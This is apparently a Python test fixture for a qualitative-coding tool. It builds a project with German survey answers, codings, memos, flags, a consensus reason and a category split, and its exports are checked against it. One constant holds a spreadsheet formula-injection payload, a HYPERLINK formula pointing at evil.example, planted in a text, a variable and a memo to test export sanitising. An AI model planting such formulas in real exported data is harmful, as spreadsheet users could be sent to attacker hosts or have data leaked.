"""A project that holds everything an export must carry: texts, memos, flags, a reason, a split."""

from __future__ import annotations

import json
from pathlib import Path

from qca.codebook import codebook_from_dict
from qca.coding import set_coding, set_flag, set_memo
from qca.reconcile import set_consensus
from qca.revise import replace_codebook, split
from qca.store import Project

INJECTED = '=HYPERLINK("http://evil.example/?x=1","klick")'
MEMO = "MEMOTEST: Ironie? nachfragen"
REASON = "REASONTEST: Ironie ist kein Lob"
SPLIT_NOTE = "[NEG split into NEG_A, NEG_B: check]"
VARIABLES = ["Amt / Fachbereich", "1. Welle", "Größe", "if", "amt"]
TEXTS = {
    "1#antwort": "Gute Zusammenarbeit mit dem Amt.",
    "2#antwort": INJECTED,
    "3#antwort": 'Zwei\nZeilen, "zitiert"; mit Komma',
    "4#antwort": "Nicht kodiert, aber markiert.",
}
BOOK = {
    "name": "Export-Codebook",
    "categories": [
        {"key": "POS", "name": "Lob für das Amt"},
        {"key": "NEG", "name": "Kritik am Amt"},
        {"key": "SONST", "name": "Sonstiges"},
    ],
}


def build(path: Path) -> Project:
    project = Project.create(path)
    replace_codebook(project, codebook_from_dict(BOOK), author="test", note="exports")
    with project.transaction():
        project.add_variable_names(VARIABLES)
        for i, (seg, text) in enumerate(TEXTS.items(), start=1):
            values = {"Amt / Fachbereich": "Ordnung" if i % 2 else "Jugend",
                      "1. Welle": f"00{i}", "Größe": str(10 * i), "if": "x", "amt": INJECTED}
            project.conn.execute(
                "INSERT INTO sources (id, kind, name, variables) VALUES (?, 'survey', ?, ?)",
                (str(i), f"row {i}", json.dumps(values, ensure_ascii=False)))
            project.conn.execute(
                "INSERT INTO segments (id, seq, source_id, question, position, text, "
                "substantive) VALUES (?, ?, ?, 'antwort', 1, ?, 1)",
                (seg, project.next_seq(), str(i), text))
    set_coding(project, "1#antwort", "POS", "anna", True)
    set_coding(project, "2#antwort", "NEG", "anna", True)
    set_coding(project, "3#antwort", "SONST", "anna", True)
    set_coding(project, "1#antwort", "NEG", "ben", True)
    set_coding(project, "2#antwort", "NEG", "ben", True)
    set_memo(project, "1#antwort", "anna", MEMO)
    set_memo(project, "3#antwort", "anna", INJECTED)
    set_flag(project, "1#antwort", "anna", True)
    set_flag(project, "4#antwort", "anna", True)  # flagged, never coded
    set_consensus(project, "1#antwort", ["POS"], lead="lea", reason=REASON)
    split(project, "NEG", [("NEG_A", "Kritik: Personal"), ("NEG_B", "Kritik: Abläufe")],
          author="lea")
    return project
